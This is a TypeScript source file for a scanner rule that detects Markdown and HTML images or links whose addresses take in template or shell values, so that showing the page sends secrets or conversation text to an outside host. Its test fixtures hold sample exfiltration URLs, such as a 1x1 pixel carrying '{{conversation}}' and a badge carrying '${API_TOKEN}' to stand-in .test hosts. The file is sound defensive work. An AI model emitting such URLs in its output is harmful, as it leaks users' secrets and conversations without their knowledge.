import type { Passage, ScanDocument } from "../document.ts";
import type { Hit, Rule } from "../rule.ts";
import { viewOf } from "../view.ts";
import { hostsIn, isLocal } from "../command/sinks.ts";
import { SECRET_NAME } from "../command/secrets.ts";
import { gateOf } from "../needles/gate.ts";
import { heldInViews } from "../needles/held.ts";

/** Places that a template or a shell fills in. */
const SLOT = /\{\{[^{}\n]{1,120}\}\}|\$\{[^{}\n]{1,160}\}|\$\([^()\n]{1,160}\)|<%[^%\n]{1,120}%>|\{%[^%\n]{1,120}%\}|\$[A-Z][A-Z0-9_]{2,40}\b|%[A-Z][A-Z0-9_]{2,40}%|\[\[[^[\]\n]{1,80}\]\]|#\{[^{}\n]{1,120}\}|(?<=[?&][\w-]{1,40}=)(?:\{[A-Za-z_][\w. -]{1,60}\}|<[A-Za-z_][\w .-]{2,60}>|\[[A-Za-z_][\w .-]{2,60}\]|[A-Z][A-Z0-9]{0,200}(?:_[A-Z0-9]{1,60}){1,8}\b|%7B[\w%. -]{2,80}%7D|(?:LAST|USER|FULL|ALL|OUR)?(?:CONTEXT|CONVERSATION|HISTORY|SECRETS?|SUMMARY|PROMPT|DATA|TOKEN|PASSWORD|USERNAME|USER|HOSTNAME|EMAIL|MESSAGE|QUESTION|ANSWER|TRANSCRIPT|NOTES)\b)/gu;
/** What is not for strangers, as people name it. */
const SENSITIVE = /\b(?:conversation|history|context|messages?|transcript|chat|prompt|system|summary|memory|memories|user|profile|email|mail|phone|address|name|customer|client|contacts?|env|environment|secrets?|session|cookies?|files?|content|contents|document|answer|reply|response|input|query|question|notes?|data|payload|everything|output|body|text|log|diff|source|code|repo|balance|account|iban|card|ssn|location|ip|host(?:name)?|whoami|clipboard)\b/iu;
/** Names that say where or which, not what somebody said. */
/** An editor asks for it: `${input:name}`. */
const ASKED_FOR = /^\$\{input(?::|%3[aA])/u;
const HARMLESS = /^\W{0,60}(?:(?:github|gh|repo|repository|project|pkg|package|org|owner|branch|ref|sha|commit|tag|version|release|build|job|run|workflow|pr|issue|id|num(?:ber)?|page|lang|locale|theme|color|style|size|width|height|slug|path|file(?:name)?|dir|base|base_?url|url|host|domain|port|api|env|region|zone|year|month|day|date|time|timestamp|hash|i|n|index|count|status|label|badge|logo|icon|title|subscriber|unsubscribe)[\w.]{0,200})\W{0,60}$/iu;

export const exfilTemplateInUrl: Rule = {
  id: "exfil/template-in-url",
  kind: "command",
  finds: "An image whose address takes in a value (`https://…/b.svg?s=${OPENAI_API_KEY}`, `{{user_profile}}`): whoever shows the page sends the value, without a click. Links, where the value's name says that it is a secret or what somebody wrote.",
  spares: "Addresses in code, images of the machine itself, and links with ids, versions and paths.",
  flagged: [
    { name: "an image", text: "![build](https://img.badge.test/b.svg?s=${API_TOKEN})\n", lines: [1] },
    { name: "by reference", text: "![chart][c]\n\n[c]: https://charts.test/v1?data={{user_profile}}\n", lines: [3] },
    { name: "of HTML", text: "<img src=\"https://px.test/p.gif?c={{conversation}}\" width=\"1\" height=\"1\">\n", lines: [1] },
    { name: "a link", text: "[Was this of help?](https://feedback.test/v?c={{conversation}})\n", lines: [1] },
  ],
  clean: [
    { name: "a badge", text: "![build](https://img.shields.io/badge/build-passing-green?style=flat)\n" },
    { name: "a value that an editor asks for", text: "[Install](https://insiders.vscode.dev/redirect/mcp/install?name=kit&config=%7B%22env%22%3A%7B%22KIT_API_KEY%22%3A%22%24%7Binput%3AapiKey%7D%22%7D%7D)\n" },
    { name: "a sign of a stock", text: "![$KIT](https://img.shields.io/badge/$KIT-price-blue)\n" },
    { name: "a link with an id", text: "[Run](https://ci.kit.example/runs/${RUN_ID})\n" },
    { name: "in inline code", text: "Unsubscribe links look like `https://news.example.com/u?id={{subscriber.id}}`.\n" },
  ],
  *find(document) {
    const mayShow = heldInViews(document).all.may(MAY_SHOW);
    let shown: ReadonlySet<string> | undefined;
    for (const passage of document.passages) {
      if (passage.kind === "url") {
        if (hasSlotSign(passage.mapped.text)) yield* inAddress(passage, (shown ??= imagesOf(document)).has(passage.mapped.text));
      } else if (!mayShow) continue;
      else if (passage.kind === "prose" || passage.kind === "cell") yield* inText(passage);
      else if (passage.kind === "code" || passage.kind === "comment") yield* inSource(passage);
    }
  },
};

/** The addresses of the images that are shown. */
function imagesOf({ passages }: ScanDocument): ReadonlySet<string> {
  const urls = new Set<string>();
  for (const { inlines } of passages) for (const { kind, url } of inlines) if (kind === "image" && url !== undefined) urls.add(url);
  return urls;
}

/** Whether an address has a sign of a slot: a brace or a bracket, a percent or a dollar sign, a capital behind an equals sign. */
function hasSlotSign(url: string): boolean {
  for (let at = 0; at < url.length; at += 1) {
    const unit = url.charCodeAt(at);
    if (unit === 0x7b || unit === 0x24 || unit === 0x25 || unit === 0x3c || unit === 0x5b) return true;
    if (unit === 0x3d && isCapital(url.charCodeAt(at + 1))) return true;
  }
  return false;
}

const isCapital = (unit: number): boolean => unit >= 65 && unit <= 90;

/** Braces may be written as percent codes. */
function decoded(url: string): string {
  return url.replaceAll(/%(7[bBdD]|24|3[cCeE]|5[bBdD])/gu, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
}

const EXTERNAL = /^\s{0,20}(?:https?:)?\/\/|^\s{0,20}url\s{0,20}\(|\bhttps?:\/\//iu;

function* inAddress(passage: Passage, isImage: boolean): Generator<Hit> {
  const text = decoded(passage.mapped.text);
  if (!EXTERNAL.test(text) || hostsIn(text).some(isLocal)) return;
  const image = passage.carrier === "image" || isImage || (passage.attribute !== undefined && /^(?:src|srcset|poster|background|style|data)$/u.test(passage.attribute));
  for (const match of text.matchAll(SLOT)) {
    const inHost = match.index < text.indexOf("/", text.indexOf("//") + 2);
    if (ASKED_FOR.test(match[0])) continue;
    const secret = SECRET_NAME.test(match[0]);
    if (image ? !secret && (HARMLESS.test(match[0]) || isMereWord(match[0])) : !secret && (!SENSITIVE.test(match[0].replaceAll("_", " ")) || HARMLESS.test(match[0]))) continue;
    yield { span: passage.span, message: `${image ? "The address of an image" : "An address"} takes in \`${match[0].replaceAll("`", "'")}\`${inHost ? " as a part of the host" : ""}`, within: { view: viewOf(passage), start: 0, end: passage.mapped.text.length }, ...(image || secret ? { certain: true } : { level: "warning" }) };
    return;
  }
}

/** `$NAME` and `%NAME%` without braces, in an address that no shell reads: a sign of a stock, a word. Not where it names what somebody said. */
function isMereWord(slot: string): boolean {
  return /^[$%][A-Z]/u.test(slot) && !SENSITIVE.test(slot.replaceAll(/[_$%]/gu, " "));
}

/** In an image that is shown, a brace of any kind. */
const ANY_SLOT = new RegExp(String.raw`${SLOT.source}|\{[^{}\n]{2,120}\}`, "gu");

/** An image that no parser takes for one, because its address has blanks or brackets in it. */
const IMAGE_SOURCE = /!\[[^\]\n]{0,200}\]\(\s{0,20}<?\s{0,20}(https?:\/\/[^\n]{1,400}?)(?:\)(?:\s|$|[.,;*_`"'])|$)|<img\s[^>\n]{0,200}?src\s{0,20}=\s{0,20}["']?(https?:\/\/[^"'>\n]{1,400})/giu;

/** Whether a text can hold one. */
const MAY_SHOW = gateOf(/!\[|<img/u);

function* inText(passage: Passage): Generator<Hit> {
  const { text } = passage.mapped;
  if (!text.includes("![") && !text.includes("<img")) return;
  yield* images(passage, text, false);
}

/** A program or an example that puts an image together out of what is secret. */
function* inSource(passage: Passage): Generator<Hit> {
  const { text } = passage.mapped;
  if (!text.includes("![") && !text.includes("<img")) return;
  yield* images(passage, text, true);
}

function* images(passage: Passage, text: string, strict: boolean): Generator<Hit> {
  for (const match of text.matchAll(IMAGE_SOURCE)) {
    const url = match[1] ?? match[2] ?? "";
    if (hostsIn(url).some(isLocal)) continue;
    const inCode = passage.inlines.some(({ kind, start, end }) => kind === "code" && start <= match.index && match.index < end);
    for (const slot of url.matchAll(strict || inCode ? SLOT : ANY_SLOT)) {
      if (HARMLESS.test(slot[0]) || ((strict || inCode) && !SECRET_NAME.test(slot[0]) && !/\b(?:conversation|history|transcript|messages?|chat|memory|prompt|env|context|summary|profile)\b/iu.test(slot[0].replaceAll("_", " ")))) continue;
      const start = match.index;
      const end = match.index + match[0].length;
      yield { span: { start: passage.mapped.starts[start] ?? 0, end: passage.mapped.ends[end - 1] ?? 0 }, message: `The address of an image takes in \`${slot[0].replaceAll("`", "'")}\``, within: { view: viewOf(passage), start, end }, ...(inCode ? { level: "info" } : {}) };
      break;
    }
  }
}
